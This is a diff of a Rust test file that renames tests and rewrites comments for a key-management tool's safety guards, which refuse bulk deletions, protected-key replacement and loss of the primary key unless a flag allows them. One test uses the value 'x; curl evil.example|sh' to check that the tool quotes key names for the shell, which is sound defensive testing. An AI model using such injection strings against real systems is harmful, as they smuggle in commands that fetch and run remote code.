@@ -1,4 +1,4 @@
-//! Guards: which plans are refused until a person acknowledges what they do.
+//! Guards: plans that are refused unless a flag allows them.
 
 #![cfg(test)]
 
@@ -32,7 +32,7 @@ fn trips(plan: &Plan, words: &[&str]) {
 }
 
 #[test]
-fn what_gives_access_needs_no_acknowledgement() {
+fn plans_without_deletions_need_no_flag() {
     trips(&plan("a=A b=B*", "", "z=Z#9"), &[]);
     trips(&plan("a=A", "a=A#1", ""), &["--allow-empty-account"]);
     trips(&plan("a=A b=B", "a=A#1 b=B#2", "b=B#2"), &[]);
@@ -40,18 +40,18 @@ fn what_gives_access_needs_no_acknowledgement() {
 }
 
 #[test]
-fn many_deletions_most_and_all_of_them_are_refused() {
+fn many_deletions_and_deletions_of_most_keys_are_refused() {
     trips(&plan("b=B", "a=A#1 b=B#2", "a=A#1 b=B#2"), &[]);
     trips(&plan("", "a=A#1 b=B#2", "a=A#1 b=B#2"), &["--allow-deletes 2"]);
     trips(&plan("", "a=A#1", "a=A#1"), &["--allow-deletes 1"]);
     trips(&plan("a=A b=B", "a=A#1 b=B#2 c=C#3", "a=A#1 b=B#2 c=C#3"), &[]);
     trips(&plan("a=A", "a=A#1 b=B#2 c=C#3", "a=A#1 b=B#2 c=C#3"), &["--allow-deletes 2"]);
     let state = many(26);
-    // 26 managed, 10 of them go: not most, not more than ten.
-    let wanted: String =
+    // 10 of 26 managed keys are deleted: neither most of them nor more than ten.
+    let desired: String =
         ('A'..='Z').take(16).enumerate().map(|(index, letter)| format!("k{index}={letter} ")).collect();
-    trips(&plan(&wanted, &state, &state), &[]);
-    let fewer: String = wanted.split_whitespace().take(15).map(|word| format!("{word} ")).collect();
+    trips(&plan(&desired, &state, &state), &[]);
+    let fewer: String = desired.split_whitespace().take(15).map(|word| format!("{word} ")).collect();
     trips(&plan(&fewer, &state, &state), &["--allow-deletes 11"]);
     let acknowledged = Acknowledged { deletes: 11, ..Acknowledged::default() };
     assert_eq!(tripped(&plan(&fewer, &state, &state), &acknowledged, Stage::Apply), [""; 0]);
@@ -60,7 +60,7 @@ fn many_deletions_most_and_all_of_them_are_refused() {
 }
 
 #[test]
-fn a_protected_key_goes_only_by_its_name() {
+fn a_protected_key_is_replaced_only_if_a_flag_names_it() {
     let rotated = plan("a=B! c=C", "a=A#1 c=C#2", "a=A#1 c=C#2");
     trips(&rotated, &["--allow-protected a"]);
     let named = Acknowledged { protected: vec![KeyName::new("a").unwrap()], ..Acknowledged::default() };
@@ -70,7 +70,7 @@ fn a_protected_key_goes_only_by_its_name() {
 }
 
 #[test]
-fn a_name_in_the_command_of_a_refusal_is_quoted_for_a_shell() {
+fn a_name_in_the_help_of_a_refusal_is_quoted_for_a_shell() {
     for (name, flag) in [
         ("x; curl evil.example|sh", "--allow-protected 'x; curl evil.example|sh'"),
         ("it's", r"--allow-protected 'it'\''s'"),
@@ -85,12 +85,12 @@ fn a_name_in_the_command_of_a_refusal_is_quoted_for_a_shell() {
 }
 
 #[test]
-fn the_primary_goes_only_with_another_in_its_place() {
+fn the_primary_key_is_deleted_only_if_another_is_promoted() {
     let state = "a=A#1 b=B#2 c=C#3";
     trips(&plan("b=B c=C", state, "a=A#1* b=B#2 c=C#3"), &["--allow-primary-loss"]);
     trips(&plan("b=B* c=C", state, "a=A#1* b=B#2 c=C#3"), &[]);
     trips(&plan("a=X b=B c=C", state, "a=A#1* b=B#2 c=C#3"), &[]);
-    // The key that takes its place is there already, and is not the primary.
+    // The new key is already on the account, and is not the primary.
     let mut adopted = plan("a=X b=B c=C", state, "a=A#1* b=B#2 c=C#3 x=X#4");
     trips(&adopted, &[]);
     for action in &mut adopted.actions {
@@ -99,33 +99,33 @@ fn the_primary_goes_only_with_another_in_its_place() {
         }
     }
     trips(&adopted, &["--allow-primary-loss"]);
-    // A target that leaves out the promotion does not leave out the guard.
+    // If a target excludes the promotion, the guard still trips.
     let mut partial = plan("a=X b=B* c=C", state, "a=A#1* b=B#2 c=C#3");
     trips(&partial, &[]);
     partial.limit_to(&[KeyName::new("a").unwrap()]);
     trips(&partial, &["--allow-primary-loss"]);
-    assert_eq!(partial.primary, None, "and what was left out is not made up for behind the scenes");
+    assert_eq!(partial.primary, None, "an excluded promotion must not happen after all");
 }
 
 #[test]
-fn where_nobody_has_looked_any_key_may_be_the_primary() {
+fn without_a_listing_any_key_may_be_the_primary() {
     let offline = plan("b=B c=C", "a=A#1 b=B#2 c=C#3", "offline");
-    trips(&offline, &["nobody knows whether it is the primary"]);
-    // To look at it is free: a pull request from a fork has no other way.
+    trips(&offline, &["which may be the primary key"]);
+    // Showing the plan is allowed: a pull request from a fork cannot list the account.
     assert_eq!(tripped(&offline, &Acknowledged::default(), Stage::Plan), [""; 0]);
     let acknowledged = Acknowledged { primary_loss: true, ..Acknowledged::default() };
     assert_eq!(tripped(&offline, &acknowledged, Stage::Apply), [""; 0]);
-    // A saved one is looked at again when it is carried out.
+    // A saved plan is checked again when it is applied.
     let mut seen = offline.clone();
     seen.observe(&listing("a=A#1* b=B#2 c=C#3"));
-    trips(&seen, &["the primary key, and make no other"]);
+    trips(&seen, &["the primary key, and promotes no other key"]);
     let mut seen = offline;
     seen.observe(&listing("a=A#1 b=B#2* c=C#3"));
     trips(&seen, &[]);
 }
 
 #[test]
-fn another_account_than_the_pinned_one_is_refused() {
+fn an_account_other_than_the_pinned_one_is_refused() {
     let mut pinned = plan("a=A", "", "z=Z#9");
     pinned.pin = Some(UserId::new("user-1").unwrap());
     trips(&pinned, &[]);
